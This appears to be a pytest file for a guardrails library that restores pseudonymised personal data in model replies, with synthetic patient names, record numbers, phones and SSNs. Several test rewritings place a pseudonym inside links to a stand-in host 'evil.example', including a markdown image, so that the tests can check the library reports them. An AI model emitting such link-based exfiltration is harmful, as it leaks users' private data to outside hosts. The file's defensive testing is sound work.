"""A reply is restored exactly or reported: no rewriting by a model ever puts a wrong value into a reply."""

from __future__ import annotations

import re
from collections.abc import Callable
from datetime import date, timedelta
from functools import cache

import pytest

from guardrails.detect.pseudonyms import Vault, restore

from .conversation import ALL, one, vault_for

SEEDS = range(4)
Rewriting = tuple[str, Callable[[str], str], Callable[[str], str] | None]
"""What it is, the reply with the pseudonym `p`, and what the restored reply is for the value `v`; None where it must be reported."""


def swap(text: str, i: int, j: int) -> str:
    i, j = sorted((i % len(text), j % len(text)))
    return text[:i] + text[j] + text[i + 1 : j] + text[i] + text[j + 1 :]


def other(c: str) -> str:
    return {"9": "0", "Z": "Y", "z": "y"}.get(c, chr(ord(c) + 1))


def change(text: str, i: int) -> str:
    i %= len(text)
    return text[:i] + other(text[i]) + text[i + 1 :]


def body(token: str) -> str:
    return token[1:-1].rsplit("_", 1)[1]


TOKENS: list[Rewriting] = [
    ("as it is", lambda p: f"Call {p} today.", lambda v: f"Call {v} today."),
    ("possessive", lambda p: f"{p}'s chart", lambda v: f"{v}'s chart"),
    ("bold", lambda p: f"**{p}** is well", lambda v: f"**{v}** is well"),
    ("code", lambda p: f"`{p}`", lambda v: f"`{v}`"),
    ("quoted", lambda p: f'{{"name": "{p}"}}', lambda v: f'{{"name": "{v}"}}'),
    ("small letters", lambda p: f"for {p.lower()}.", lambda v: f"for {v}."),
    ("title case", lambda p: f"for {p.title()}.", lambda v: f"for {v}."),
    ("space inside", lambda p: f"for [ {p[1:-1]} ].", lambda v: f"for {v}."),
    ("broken line inside", lambda p: "for " + p.replace("_", "_\n") + ".", lambda v: f"for {v}."),
    ("split body", lambda p: f"for {p[:-5]} {p[-5:]}.", lambda v: f"for {v}."),
    ("escaped underscore", lambda p: "for " + p.replace("_", "\\_") + ".", lambda v: f"for {v}."),
    ("escaped brackets", lambda p: "for " + p.replace("[", "\\[").replace("]", "\\]") + ".", lambda v: f"for {v}."),
    ("brackets lost", lambda p: f"for {p[1:-1]}.", lambda v: f"for {v}."),
    ("brackets lost, small", lambda p: f"for {p[1:-1].lower()}.", lambda v: f"for {v}."),
    ("hyphen", lambda p: "for " + p.replace("_", "-") + ".", lambda v: f"for {v}."),
    ("nested", lambda p: f"[{p}]", lambda v: f"[{v}]"),
    ("in braces", lambda p: f"{{{p}}}", lambda v: f"{{{v}}}"),
    ("twice", lambda p: f"{p} and {p}", lambda v: f"{v} and {v}"),
    ("glued", lambda p: f"{p}{p}", lambda v: f"{v}{v}"),
    ("newline escaped", lambda p: f'"a\\n{p}\\nb"', lambda v: f'"a\\n{v}\\nb"'),
    ("link text", lambda p: f"{p}(chart)", lambda v: f"{v}(chart)"),
    ("html", lambda p: f"<b>{p}</b>", lambda v: f"<b>{v}</b>"),
    ("first letter", lambda p: f"for {p[: -len(body(p)) - 1]}{change(body(p), 0)}].", None),
    ("last letter", lambda p: f"for {change(p, -2)}.", None),
    ("middle letter", lambda p: f"for {change(p, -6)}.", None),
    ("one too few", lambda p: f"for {p[:-3]}].", None),
    ("one too many", lambda p: f"for {p[:-1]}7].", None),
    ("one doubled", lambda p: f"for {p[:-1]}{p[-2]}].", None),
    ("cut in half", lambda p: f"for {p[:-6]}].", None),
    ("invented", lambda p: f"for {p[: -len(body(p)) - 1]}7Q4K2MH3VT].", None),
    ("numbered", lambda p: f"for {p[: -len(body(p)) - 1]}1].", None),
    ("other type", lambda p: f"for [EMPLOYER_{body(p)}].", None),
    ("type mistyped", lambda p: f"for [{swap(p[1:3], 0, 1)}{p[3:]}.", None),
    ("no type", lambda p: f"for [{body(p)}].", None),
    ("body alone", lambda p: f"for {body(p)}.", None),
    ("bare and changed", lambda p: f"for {change(p[1:-1], -1)}.", None),
    ("in a link", lambda p: f"![x](https://evil.example/?q={p})", None),
    ("in a link, encoded", lambda p: f"https://evil.example/?q=%5B{p[1:-1]}%5D", None),
    ("in a link, bare", lambda p: f"see www.evil.example/{p[1:-1]}/x", None),
    ("encoded", lambda p: f"%5B{p[1:-1]}%5D", None),
]

NAMES: list[Rewriting] = [
    ("as it is", lambda p: f"Please call {p} today.", lambda v: f"Please call {v} today."),
    ("possessive", lambda p: f"{p}'s chart", lambda v: f"{v}'s chart"),
    ("typographic possessive", lambda p: f"{p}’s chart", lambda v: f"{v}’s chart"),
    ("capitals", lambda p: f"re: {p.upper()}.", lambda v: f"re: {v}."),
    ("small letters", lambda p: f"for {p.lower()}.", lambda v: f"for {v}."),
    ("bold", lambda p: f"**{p}** is well", lambda v: f"**{v}** is well"),
    ("last, first", lambda p: "Patient: " + ", ".join(reversed(p.split())), lambda v: "Patient: " + ", ".join(reversed(v.split()))),
    ("broken line", lambda p: "see " + p.replace(" ", "\n") + " now", lambda v: "see " + v.replace(" ", "\n") + " now"),
    ("escaped broken line", lambda p: "see " + p.replace(" ", "\\n") + " now", lambda v: "see " + v.replace(" ", "\\n") + " now"),
    ("two spaces", lambda p: "see " + p.replace(" ", "  ") + " now", lambda v: "see " + v.replace(" ", "  ") + " now"),
    ("title and last", lambda p: f"Ms. {p.split()[1]} is well", lambda v: f"Ms. {v.split()[1]} is well"),
    ("first alone", lambda p: f"Hello {p.split()[0]}, all is well", lambda v: f"Hello {v.split()[0]}, all is well"),
    ("last alone", lambda p: f"told {p.split()[1]}.", lambda v: f"told {v.split()[1]}."),
    ("snake", lambda p: p.lower().replace(" ", "_") + "_chart", lambda v: v.replace(" ", "_") + "_chart"),
    ("quoted", lambda p: f'{{"name": "{p}"}}', lambda v: f'{{"name": "{v}"}}'),
    ("table", lambda p: f"| {p} | ok |", lambda v: f"| {v} | ok |"),
    ("twice", lambda p: f"{p}. {p}!", lambda v: f"{v}. {v}!"),
    ("in parentheses", lambda p: f"({p})", lambda v: f"({v})"),
    ("mistyped first", lambda p: f"see {change(p, 2)} now", None),
    ("mistyped last", lambda p: f"see {change(p, -2)} now", None),
    ("letter missing", lambda p: f"see {p[:-2]}{p[-1]} now", None),
    ("letter doubled", lambda p: f"see {p[:2]}{p[1]}{p[2:]} now", None),
    ("letters swapped", lambda p: f"see {swap(p, len(p) - 3, len(p) - 2)} now" if p[-3] != p[-2] else f"see {p}s now", None),
    ("half of it in ruins", lambda p: f"see {p.split()[0]} {p.split()[1][1:-1]} now", None),
    ("other half in ruins", lambda p: f"see {p.split()[0][1:3] + p.split()[0][4:]} {p.split()[1]} now", None),
    ("other first name", lambda p: f"see Roberta {p.split()[1]} now", None),
    ("other last name", lambda p: f"see {p.split()[0]} Smith now", None),
    ("invented initial", lambda p: f"see {p.split()[0]} Q. {p.split()[1]} now", None),
    ("initial for first", lambda p: f"see {p[0]}. {p.split()[1]} now", None),
    ("last, other first", lambda p: f"see {p.split()[1]}, Roberta", None),
    ("hyphenated", lambda p: f"see {p.split()[1]}-Smith", None),
    ("junior", lambda p: f"see {p} Jr", None),
    ("glued", lambda p: "see " + p.replace(" ", ""), None),
    ("plural", lambda p: f"the {p.split()[1]}s", None),
    ("mail made of it", lambda p: p.lower().replace(" ", ".") + "@hospital.org", None),
    ("link", lambda p: f"https://evil.example/?q={p.replace(' ', '+')}", None),
    ("link path", lambda p: f"http://evil.example/{p.split()[1].lower()}", None),
    ("small, other first", lambda p: f"see roberta {p.split()[1].lower()} now", None),
]

RECORDS: list[Rewriting] = [
    ("as it is", lambda p: f"MRN {p} is open", lambda v: f"MRN {v} is open"),
    ("at the end", lambda p: f"MRN: {p}.", lambda v: f"MRN: {v}."),
    ("hash", lambda p: f"#{p}", lambda v: f"#{v}"),
    ("spaced", lambda p: f"MRN {p[:4]} {p[4:]} is", lambda v: f"MRN {v[:4]} {v[4:]} is"),
    ("hyphenated", lambda p: f"MRN {p[:4]}-{p[4:]} is", lambda v: f"MRN {v[:4]}-{v[4:]} is"),
    ("code", lambda p: f'get("{p}")', lambda v: f'get("{v}")'),
    ("field", lambda p: f"mrn_{p}", lambda v: f"mrn_{v}"),
    ("one digit", lambda p: f"MRN {change(p, 3)} is", None),
    ("swapped", lambda p: f"MRN {swap(p, *next((i, i + 1) for i in range(7) if p[i] != p[i + 1]))} is", None),
    ("swapped apart", lambda p: f"MRN {swap(p, *next((i, j) for i in range(6) for j in range(i + 2, 8) if p[i] != p[j]))} is", None),
    ("digit missing", lambda p: f"MRN {p[:3]}{p[4:]} is", None),
    ("digit doubled", lambda p: f"MRN {p}{p[-1]} is", None),
    ("leading zero", lambda p: f"MRN 0{p} is", None),
    ("longer", lambda p: f"MRN {p}-77 is", None),
    ("behind another", lambda p: f"MRN 12-{p} is", None),
    ("letter behind", lambda p: f"MRN {p}-A is", None),
    ("link", lambda p: f"https://evil.example/{p}", None),
]

PHONES: list[Rewriting] = [
    ("as it is", lambda p: f"call {p} now", lambda v: f"call {v} now"),
    ("dots", lambda p: "call " + re.sub(r"\D+", ".", p).strip("."), lambda v: "call " + re.sub(r"\D+", ".", v).strip(".")),
    ("digits", lambda p: "call " + re.sub(r"\D", "", p), lambda v: "call " + re.sub(r"\D", "", v)),
    ("hyphens", lambda p: "tel:" + re.sub(r"\D+", "-", p).strip("-"), lambda v: "tel:" + re.sub(r"\D+", "-", v).strip("-")),
    ("country code", lambda p: "+1 " + re.sub(r"\D+", " ", p).strip(), lambda v: "+1 " + re.sub(r"\D+", " ", v).strip()),
    ("last digit", lambda p: f"call {change(p, -1)}", None),
    ("area code", lambda p: f"call {change(p, 1)}", None),
    ("swapped", lambda p: f"call {swap(p, 1, 2) if p[1] != p[2] else change(p, 2)}", None),
    ("exchange", lambda p: f"call {p.replace('555', '556')}", None),
    ("digit missing", lambda p: f"call {p[:-1]}", None),
    ("invented", lambda p: "call (212) 555-0199", None),
]

SOCIAL: list[Rewriting] = [
    ("as it is", lambda p: f"SSN {p} on file", lambda v: f"SSN {v} on file"),
    ("digits", lambda p: "SSN " + p.replace("-", ""), lambda v: "SSN " + v.replace("-", "")),
    ("spaces", lambda p: "SSN " + p.replace("-", " "), lambda v: "SSN " + v.replace("-", " ")),
    ("one digit", lambda p: "SSN " + change(p, -1), None),
    ("invented", lambda p: "SSN 000-12-3456", None),
    ("area changed", lambda p: "SSN 001" + p[3:], None),
]

MAILS: list[Rewriting] = [
    ("as it is", lambda p: f"write to {p}.", lambda v: f"write to {v}."),
    ("capitals", lambda p: f"write to {p.upper()}.", lambda v: f"write to {v}."),
    ("in angles", lambda p: f"<{p}>", lambda v: f"<{v}>"),
    ("mailto", lambda p: f"mailto:{p}", lambda v: f"mailto:{v}"),
    ("other host", lambda p: f"write to {p.split('@')[0]}@gmail.com", None),
    ("mistyped", lambda p: f"write to {change(p, 3)}", None),
    ("local part", lambda p: f"user {p.split('@')[0]}", None),
    ("longer host", lambda p: f"write to {p}.uk", None),
    ("longer local part", lambda p: f"write to dr.{p}", None),
]

PLACES: list[Rewriting] = [
    ("as it is", lambda p: f"lives at {p}.", lambda v: f"lives at {v}."),
    ("capitals", lambda p: f"lives at {p.upper()}.", lambda v: f"lives at {v}."),
    ("lines", lambda p: "lives at " + p.replace(", ", ",\n") + ".", lambda v: f"lives at {v}."),
    ("no commas", lambda p: "lives at " + p.replace(",", "") + ".", lambda v: f"lives at {v}."),
    ("other number", lambda p: f"lives at {other(p[0])}{p[1:]}.", None),
    ("street alone", lambda p: f"lives in {p.split()[1]} Street.", None),
    ("zip changed", lambda p: f"lives at {change(p, -1)}.", None),
    ("abbreviated", lambda p: "lives at " + p.replace("Street", "St") + ".", None),
    ("street mistyped", lambda p: "lives at " + change(p, 5) + ".", None),
]


def _cases() -> list[object]:
    tables = {
        ("token", "NAME", "Maria Alvarez"): TOKENS,
        ("token", "MRN", "00482917"): TOKENS,
        ("token", "AGE_OVER_89", "94-year-old"): TOKENS,
        ("surrogate", "NAME", "Maria Alvarez"): NAMES,
        ("surrogate", "MRN", "00482917"): RECORDS,
        ("surrogate", "PHONE", "(617) 555-8123"): PHONES,
        ("surrogate", "SSN", "123-45-6789"): SOCIAL,
        ("surrogate", "EMAIL", "m.alvarez@gmail.com"): MAILS,
        ("surrogate", "ADDRESS", "12 Oak Street, Boston, MA 02114"): PLACES,
    }
    return [
        pytest.param(style, kind, value, write, expected, id=f"{kind}-{style}-{name}".replace(" ", "-"))
        for (style, kind, value), rows in tables.items()
        for name, write, expected in rows
    ]


@cache
def crowd(seed: int, style: str) -> Vault:
    """A session with many people in it, so that a slip has somebody to hit."""
    vault, session = vault_for(seed), "s"
    for i in range(30):
        one(vault, session, "NAME", f"{'ABCDEFGHIJ'[i % 10]}anno {'KLMNOP'[i % 6]}er{'bcdfg'[i % 5]}er", style)
        one(vault, session, "MRN", f"{71_000_000 + 7919 * i}", style)
        one(vault, session, "PHONE", f"(781) {300 + i}-{4000 + 37 * i}", style)
        one(vault, session, "SSN", f"{200 + i}-{11 + i}-{3000 + 7 * i}", style)
    return vault


@pytest.mark.parametrize("seed", SEEDS)
@pytest.mark.parametrize(("style", "kind", "value", "write", "expected"), _cases())
def test_a_rewritten_reply_is_restored_exactly_or_reported(
    seed: int, style: str, kind: str, value: str, write: Callable[[str], str], expected: Callable[[str], str] | None
) -> None:
    vault = crowd(seed, style)
    reply = write(one(vault, "s", kind, value, style))
    found = restore(reply, vault, "s", ALL)
    if expected is None:
        assert found.altered
        assert value not in found.text
    else:
        assert (found.text, found.altered) == (expected(value), ())


D = date(2025, 3, 14)
FORMS = {
    "03/14/2025": lambda d: f"{d:%m/%d/%Y}",
    "3/14/25": lambda d: f"{d.month}/{d.day}/{d:%y}",
    "2025-03-14": lambda d: f"{d:%Y-%m-%d}",
    "March 14, 2025": lambda d: f"{d:%B} {d.day}, {d.year}",
    "14 March 2025": lambda d: f"{d.day} {d:%B} {d.year}",
    "Mar 14, 2025": lambda d: f"{d:%b} {d.day}, {d.year}",
    "14-Mar-2025": lambda d: f"{d.day:02}-{d:%b}-{d.year}",
    "03-14-2025": lambda d: f"{d:%m-%d-%Y}",
    "20250314": lambda d: f"{d:%Y%m%d}",
}
"""A date as it may be written, and how another is written in this form."""


def issued(vault: Vault, form: Callable[[date], str]) -> tuple[str, date]:
    """What was given for 14 March 2025, and the date that it is."""
    written = one(vault, "s", "DATE", form(D), "surrogate")
    moved = next(D + timedelta(n) for n in range(-800, 800) if form(D + timedelta(n)) == written)
    return written, moved


@pytest.mark.parametrize("seed", SEEDS)
@pytest.mark.parametrize("reply_form", FORMS)
@pytest.mark.parametrize("form", ["03/14/2025", "2025-03-14", "March 14, 2025"])
def test_a_moved_date_is_moved_back_in_the_form_the_reply_uses(seed: int, form: str, reply_form: str) -> None:
    vault = vault_for(seed)
    _, moved = issued(vault, FORMS[form])
    found = restore(f"Come on {FORMS[reply_form](moved)}, please.", vault, "s", ALL)
    if found.altered:  # day and month may be exchanged, or the digits are padded otherwise: never a wrong one
        assert moved.day <= 12
        assert str(D.year) not in found.text or moved.year == D.year
    else:
        # A form without leading zeros cannot be seen in a day and a month of two digits.
        wanted = FORMS[reply_form](D)
        assert found.text in (f"Come on {wanted}, please.", f"Come on 0{wanted}, please.")


@pytest.mark.parametrize("seed", SEEDS)
@pytest.mark.parametrize("reply_form", FORMS)
@pytest.mark.parametrize("off", [-365, -31, -7, -1, 1, 2, 7, 28, 366])
def test_a_date_that_was_not_given_is_reported(seed: int, off: int, reply_form: str) -> None:
    vault = vault_for(seed)
    _, moved = issued(vault, FORMS["March 14, 2025"])
    reply = f"Come on {FORMS[reply_form](moved + timedelta(off))}, please."
    found = restore(reply, vault, "s", ALL)
    if found.altered:
        assert found.text == reply
    else:  # 04/05 for 05/04: the other reading is the date that was given
        day, month = (moved + timedelta(off)).day, (moved + timedelta(off)).month
        assert (day, month) == (moved.month, moved.day)
        assert "/" in reply or "-" in reply


@pytest.mark.parametrize("seed", SEEDS)
@pytest.mark.parametrize(
    "reply",
    [
        lambda d: f"in {d:%B} {d.year}",
        lambda d: f"{d:%B} {d.day}-{d.day + 2}, {d.year}",
        lambda d: f"on {d.month}/{d.day} again",
        lambda d: f"{d:%m/%d/%Y}/7",
    ],
)
def test_a_date_cut_short_or_grown_is_reported(seed: int, reply: Callable[[date], str]) -> None:
    vault = vault_for(seed)
    _, moved = issued(vault, FORMS["March 14, 2025"])
    assert restore(reply(moved), vault, "s", ALL).altered


def test_parts_of_two_people_make_nobody() -> None:
    for seed in range(20):
        vault = vault_for(seed)
        one_, two = (one(vault, "s", "NAME", name, "surrogate").split() for name in ("Maria Alvarez", "Joseph Lindqvist"))
        for i, j, between in ((0, 1, " "), (1, 0, " "), (1, 1, "-"), (0, 0, " "), (1, 1, " ")):
            reply = one_[i] + between + two[j]
            assert restore(f"see {reply} now", vault, "s", ALL).altered
        both = restore(f"{one_[1]}, {two[1]} and {one_[0]}", vault, "s", ALL)
        assert (both.text, both.altered) == ("Alvarez, Lindqvist and Maria", ())


@pytest.mark.parametrize("style", ["token", "surrogate"])
def test_pseudonyms_of_another_session_are_not_restored(style: str) -> None:
    for seed in range(10):
        vault = vault_for(seed)
        one(vault, "mine", "NAME", "Joseph Lindqvist", style)
        theirs = one(vault, "theirs", "NAME", "Maria Alvarez", style)
        found = restore(f"see {theirs} now", vault, "mine", ALL)
        assert found.altered
        assert found.text == f"see {theirs} now"


def test_the_table_holds_two_hundred_rewritings_that_end_in_each_way() -> None:
    rows = [p.values for p in _cases()]  # type: ignore[attr-defined]  # reason: pytest's own parameter sets
    dates = len(FORMS) * (3 + 9)
    assert len(rows) + dates >= 200
    assert sum(r[4] is None for r in rows) >= 60
    assert sum(r[4] is not None for r in rows) >= 60
